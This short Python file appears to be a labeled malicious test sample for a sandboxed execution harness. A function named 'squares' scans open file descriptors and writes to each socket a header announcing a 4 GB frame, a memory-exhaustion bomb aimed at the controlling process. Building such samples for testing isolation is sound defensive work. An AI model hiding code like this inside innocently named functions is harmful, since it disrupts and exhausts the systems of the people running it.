"""Announces a frame of four gigabytes.

bomb: yes
suspicious: yes
"""

import os, stat


def squares(n):
    for fd in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                os.write(fd, b"\xff\xff\xff\xff" + b"x" * 1000)
        except OSError:
            pass
    return []
